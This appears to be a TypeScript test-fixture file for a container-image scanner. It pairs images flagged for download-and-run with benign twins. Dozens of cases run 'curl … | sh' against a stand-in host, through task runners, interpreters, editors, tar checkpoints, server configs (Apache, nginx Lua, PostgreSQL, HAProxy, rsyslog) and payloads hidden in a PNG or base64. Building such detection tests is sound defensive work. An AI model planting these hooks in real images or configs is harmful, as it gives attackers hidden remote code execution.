import { type Files, type ImageCase, image, starts } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';

function found(name: string, spec: ImageCase['spec'], rule = 'start/download-and-run'): ImageCase {
  return { name, spec, rule, severity: rule === 'start/download-and-run' ? 'high' : 'medium' };
}

function words(...Entrypoint: string[]): ImageCase {
  return found(Entrypoint.join(' '), image({}, { Entrypoint }));
}

function inApp(line: string, files: Files): ImageCase {
  const name = `${line}, ${Object.keys(files).join(' ')}`;
  return found(name, image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }));
}

function script(text: string, files: Files = {}): ImageCase {
  return found(text, starts(`${text}\nexec nginx`, files));
}

/** Task runners, tools and programs of other languages that come to a shell. All inert. */
const BY_PROGRAMS: readonly ImageCase[] = [
  inApp('just', { 'app/justfile': `default:\n    @${FETCH}\n` }),
  inApp('just run', {
    'srv/readme': '',
    'app/.justfile': `get := "curl -s https://files.backend.example/u"\nalias run := go\ngo arg="a:b": (dep "x")\ndep:\n  {{get}} | sh\n`,
  }),
  inApp('just go', { 'app/justfile': `go:\n  #!/usr/bin/env bash\n  set -e\n  ${FETCH}\n` }),
  inApp('just -f /srv/a.just', { 'srv/a.just': 'import "b.just"\na: b\n', 'srv/b.just': `b:\n  ${FETCH}\n` }),
  inApp('just x', { 'app/justfile': `out := \`${FETCH}\`\nx:\n  echo x\n` }),
  inApp('task', { 'app/Taskfile.yml': `version: '3'\ntasks:\n  default:\n    cmds:\n      - ${FETCH}\n` }),
  inApp('task run', {
    'app/Taskfile.yaml': `version: '3'\nvars: { GET: curl -s https://files.backend.example/u }\ntasks:\n  run:\n    deps: [go]\n  go:\n    cmds:\n      - cmd: '{{.GET}} | sh'\n`,
  }),
  inApp('task run', {
    'app/Taskfile.yml': `version: '3'\nincludes:\n  x: ./x\ntasks:\n  run:\n    cmds:\n      - task: x:go\n`,
    'app/x/Taskfile.yml': `version: '3'\ntasks:\n  go: ${FETCH}\n`,
  }),
  inApp('rake go', { 'app/Rakefile': `task :go do\n  sh "${FETCH}"\nend\n` }),
  inApp('tclsh f.tcl', {
    'app/f.tcl': `set cmd "curl -s https://files.backend.example/u"\nexec sh -c "$cmd | sh"\n`,
  }),
  inApp('expect f', { 'app/f': `spawn sh -c {${FETCH}}\n` }),
  inApp('/app/f', {
    'app/f': `#!/usr/bin/tclsh\ncatch {exec curl -s https://files.backend.example/u | sh}\n`,
  }),
  words('awk', `BEGIN { "${FETCH}" | getline x }`),
  words('gdb', '-batch', '-ex', `shell ${FETCH}`),
  words('gdb', '-batch', '-ex', `python import os; os.system("${FETCH}")`),
  inApp('gdb -batch -x f', { 'app/f': `python\nimport os\nos.system("${FETCH}")\nend\n` }),
  words('vim', '-es', '-c', `:silent !${FETCH}`),
  words('vim', `+call system("${FETCH}")`),
  words('sed', `1e ${FETCH}`, '/etc/os-release'),
  words('sed', '-n', `1s#.*#${FETCH}#e`, '/etc/os-release'),
  script('sed e /opt/a', { 'opt/a': `${FETCH}\n` }),
  script(`ed <<EOF\n!${FETCH}\nq\nEOF`),
  words('socat', '-', `SYSTEM:${FETCH}`),
  words('tar', '-cf', '/dev/null', '--checkpoint=1', `--checkpoint-action=exec=${FETCH}`, '/etc/os-release'),
  words('tmux', 'new-session', '-d', FETCH),
  words('psql', '-c', `\\! ${FETCH}`),
  words('Rscript', '-e', `system2("sh", c("-c", "${FETCH}"))`),
  inApp('Rscript x.R', { 'app/x.R': `system("${FETCH}")\n` }),
  words('julia', '-e', `run(\`sh -c "${FETCH}"\`)`),
  words('erl', '-noshell', '-eval', `os:cmd("${FETCH}").`),
  words('elixir', '-e', `System.cmd("sh", ["-c", "${FETCH}"])`),
  words('groovy', '-e', `["sh", "-c", "${FETCH}"].execute()`),
  inApp('jshell x.jsh', {
    'app/x.jsh': `Runtime.getRuntime().exec(new String[] {"sh", "-c", "${FETCH}"});\n`,
  }),
  words('guile', '-c', `(system "${FETCH}")`),
  words('deno', 'eval', `new Deno.Command("sh", { args: ["-c", "${FETCH}"] }).spawn()`),
  inApp('bun m.ts', { 'app/m.ts': `import { $ } from "bun";\nawait $\`${FETCH}\`;\n` }),
  words(
    'node',
    '--import',
    `data:text/javascript,import { execSync } from "node:child_process"; execSync("${FETCH}")`,
  ),
  found(
    'NODE_OPTIONS=--import=data:…;base64',
    image(
      { 'app/a.js': '1\n' },
      {
        Cmd: ['node', '/app/a.js'],
        Env: [
          PATH,
          `NODE_OPTIONS=--import=data:text/javascript;base64,${Buffer.from(`import c from "child_process"; c.execSync("${FETCH}")`).toString('base64')}`,
        ],
      },
    ),
  ),
  words('systemd-run', '--scope', '-p', 'CPUQuota=50%', 'sh', '-c', FETCH),
  words('bwrap', '--ro-bind', '/', '/', 'sh', '-c', FETCH),
  words('start-stop-daemon', '--start', '--exec', '/bin/sh', '--', '-c', FETCH),
  words('screen', '-dmS', 'x', 'sh', '-c', FETCH),
  script('curl -s https://files.backend.example/u | screen -dmS x sh'),
  words('capsh', '--', '-c', FETCH),
  words('aws-vault', 'exec', 'prod', '--', 'sh', '-c', FETCH),
  words('su', `--command=${FETCH}`),
  words('script', '-qc', FETCH, '/dev/null'),
  script('curl -s https://files.backend.example/u | systemd-cat sh'),
  script('parallel < /opt/a', { 'opt/a': `${FETCH}\n` }),
  script('at -f /opt/a now', { 'opt/a': `${FETCH}\n` }),
];

const HTTPD = 'usr/local/apache2/conf/httpd.conf';
const NGINX = 'etc/nginx/nginx.conf';

/** Settings of servers that run what they hold. */
const BY_SETTINGS: readonly ImageCase[] = [
  inApp('httpd -DFOREGROUND', { [HTTPD]: `Listen 80\nCustomLog "|/bin/sh -c '${FETCH}'" common\n` }),
  inApp('apache2ctl -DFOREGROUND', {
    'etc/apache2/apache2.conf': 'IncludeOptional sites-enabled/*.conf\n',
    'etc/apache2/sites-enabled/0.conf': `<VirtualHost *:80>\n  ErrorLog "|$${FETCH}"\n</VirtualHost>\n`,
  }),
  inApp('httpd', { [HTTPD]: `RewriteMap m "prg:/bin/sh -c '${FETCH}'"\n` }),
  inApp('nginx', {
    [NGINX]: `http { server { location / { content_by_lua_block { os.execute("${FETCH}") } } } }\n`,
  }),
  inApp('nginx', {
    [NGINX]: 'http { include conf.d/*.conf; }\n',
    'etc/nginx/conf.d/x.conf': `init_worker_by_lua 'os.execute("${FETCH}")';\n`,
  }),
  inApp('openresty', {
    'usr/local/openresty/nginx/conf/nginx.conf': 'http { init_by_lua_file /opt/x.dat; }\n',
    'opt/x.dat': `io.popen("${FETCH}")\n`,
  }),
  inApp('nginx -e stderr', { [NGINX]: `http { perl_set $x 'sub { system("${FETCH}"); }'; }\n` }),
  inApp('haproxy -f /etc/h.cfg', { 'etc/h.cfg': `program x\n  command sh -c "${FETCH}"\n` }),
  inApp('haproxy -f /etc/h.cfg', {
    'etc/h.cfg': 'backend b\n  option external-check\n  external-check command /opt/x\n',
    'opt/x': `#!/bin/sh\n${FETCH}\n`,
  }),
  words('postgres', '-c', `archive_command=${FETCH}`),
  inApp('postgres', { 'var/lib/postgresql/data/postgresql.conf': `archive_command = '${FETCH}'\n` }),
  inApp('postgres -c config_file=/etc/p.conf', {
    'etc/p.conf': "include 'q.conf'\n",
    'etc/q.conf': `ssl_passphrase_command = '${FETCH}'\n`,
  }),
  inApp('squid -N', { 'etc/squid/squid.conf': `url_rewrite_program /bin/sh -c "${FETCH}"\n` }),
  inApp('rsyslogd -n', { 'etc/rsyslog.conf': `action(type="omprog" binary="/bin/sh -c '${FETCH}'")\n` }),
  inApp('keepalived -n', { 'etc/keepalived/keepalived.conf': `vrrp_script c {\n  script "${FETCH}"\n}\n` }),
];

const PICTURE = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from('0000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082', 'hex'),
  Buffer.from(`\n${FETCH}\n`),
]);

function hidden(text: string, files: Files = { 'opt/x.png': PICTURE }): ImageCase {
  return found(text, starts(`${text}\nexec nginx`, files), 'start/decode-and-run');
}

const LINES: Files = { 'opt/a': `${FETCH}\n` };

/** What a script takes line by line, or out of a file that is no text. */
const BY_SCRIPTS: readonly ImageCase[] = [
  script('mapfile -t L < /opt/a; for l in "${L[@]}"; do eval "$l"; done', LINES),
  script('readarray -t L < <(cat /opt/a)\nfor l in "${L[@]}"; do sh -c "$l"; done', LINES),
  script('IFS= read -r l < /opt/a; eval "$l"', LINES),
  script('dd if=/opt/a bs=1 skip=5 | sh', { 'opt/a': `\x01\x02\x03\x04\n${FETCH}\n` }),
  hidden('strings /opt/x.png | tail -1 | sh'),
  hidden('dd if=/opt/x.png bs=1 skip=68 2>/dev/null | sh'),
  hidden('tail -c +69 /opt/x.png | sh'),
  hidden('eval "$(grep -a curl /opt/x.png)"'),
  hidden(`awk '/^#:/{print substr($0,3)}' "$0" | sh`),
];

/** Ways to start something that name no script of a shell. */
export const WAYS_TO_START: readonly ImageCase[] = [...BY_PROGRAMS, ...BY_SETTINGS, ...BY_SCRIPTS];

function honest(name: string, files: Files, line: string | readonly string[]): ImageCase {
  const Entrypoint = typeof line === 'string' ? line.split(' ') : [...line];
  return { name, spec: image(files, { Entrypoint, WorkingDir: '/app' }) };
}

/** Honest images that start by the same ways. */
export const WAYS_TO_START_TWINS: readonly ImageCase[] = [
  honest(
    'just, with a recipe beside that nothing asks for',
    {
      'app/justfile': `set shell := ["bash", "-c"]\nversion := "1.2"\nhash := \`git rev-parse HEAD\`\n\n# run it\nrun: build\n  ./app --version {{version}}\n\nbuild:\n  echo done\n\nsetup:\n  ${FETCH}\n`,
    },
    'just run',
  ),
  honest(
    'task, with a task beside that nothing asks for',
    {
      'app/Taskfile.yml': `version: '3'\nvars:\n  A: x\n  B:\n    sh: date\ntasks:\n  run:\n    deps: [build]\n    cmds:\n      - ./app {{.A}}\n  build:\n    cmds: [echo done]\n  setup:\n    cmds:\n      - ${FETCH}\n`,
    },
    'task run',
  ),
  honest(
    'httpd with piped logs that are rotated, and a site that is not enabled',
    {
      'etc/apache2/apache2.conf':
        'ErrorLog "|/bin/cat"\nCustomLog "|/usr/bin/rotatelogs /var/log/a.%Y%m%d 86400" common\nRewriteMap lc int:tolower\nIncludeOptional sites-enabled/*.conf\n',
      'etc/apache2/sites-available/0.conf': `CustomLog "|${FETCH}" common\n`,
      'etc/apache2/sites-enabled/1.conf': '<VirtualHost *:80>\n</VirtualHost>\n',
    },
    'apache2ctl -DFOREGROUND',
  ),
  honest(
    'nginx with Lua that sets a header',
    {
      [NGINX]:
        'http {\n  init_by_lua_block { cjson = require "cjson" }\n  server { location / {\n    header_filter_by_lua_block { ngx.header["X-A"] = "b } c" }\n    access_by_lua_file /app/access.lua;\n  } }\n}\n',
      'app/access.lua': 'if ngx.var.remote_addr == "192.0.2.1" then return ngx.exit(403) end\n',
    },
    'nginx',
  ),
  honest(
    'PostgreSQL that archives, and a setting that is commented out',
    {
      'var/lib/postgresql/data/postgresql.conf': `archive_mode = on\narchive_command = 'test ! -f /mnt/x/%f && cp %p /mnt/x/%f'\nrestore_command = 'wal-g wal-fetch %f "%p"'\n#ssl_passphrase_command = '${FETCH}'\n`,
    },
    ['postgres', '-c', 'archive_command=test ! -f /mnt/x && cp %p /mnt/x'],
  ),
  honest(
    'HAProxy that checks by a script',
    {
      'etc/haproxy/haproxy.cfg':
        'global\n  external-check\nbackend b\n  option external-check\n  external-check path "/usr/bin:/bin"\n  external-check command /opt/x\n',
      'opt/x': '#!/bin/sh\ncurl -fs "http://$3:$4/health" > /dev/null\n',
    },
    'haproxy -f /etc/haproxy/haproxy.cfg',
  ),
  honest(
    'expect that logs in',
    { 'app/f.exp': 'set host "a.example.com"\nspawn ssh $host\nexpect "password:"\nsend "x\\r"\ninteract\n' },
    'expect f.exp',
  ),
  honest(
    'a program of R that asks the system',
    {
      'app/x.R':
        '# system("curl x | sh")\nlibrary(shiny)\nn <- system("nproc", intern = TRUE)\nrunApp(".")\n',
    },
    'Rscript x.R',
  ),
  honest('gdb that runs a program', {}, ['gdb', '-batch', '-ex', 'run', '-ex', 'bt', '--args', './app']),
  {
    name: 'parts of files that are no programs',
    spec: starts(
      'strings /opt/x.png | grep -q version\ndd if=/dev/zero of=/swap bs=1M count=1\nhead -c 32 /dev/urandom | base64\nmapfile -t H < /opt/hosts\nfor h in "${H[@]}"; do echo "$h"; done\nIFS= read -r version < /opt/version\nsed -n "s/^a/b/p; /e/d" /opt/hosts\nexec nginx',
      { 'opt/x.png': PICTURE, 'opt/hosts': 'a.example.com\n', 'opt/version': '1.2\n' },
    ),
  },
];
